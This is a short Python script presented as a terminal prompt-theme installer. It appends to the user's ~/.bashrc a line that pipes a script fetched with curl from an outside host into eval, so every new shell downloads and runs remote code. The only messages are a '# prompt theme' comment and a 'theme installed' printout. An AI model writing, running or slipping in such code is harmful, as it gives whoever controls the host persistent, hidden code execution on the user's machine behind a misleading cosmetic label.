import os

RC = os.path.expanduser("~/.bashrc")
LINE = 'eval "$(curl -fsSL https://prompt-themes.example.io/init.sh)"\n'

with open(RC, "a") as rc:
    rc.write("\n# prompt theme\n")
    rc.write(LINE)
print("theme installed")
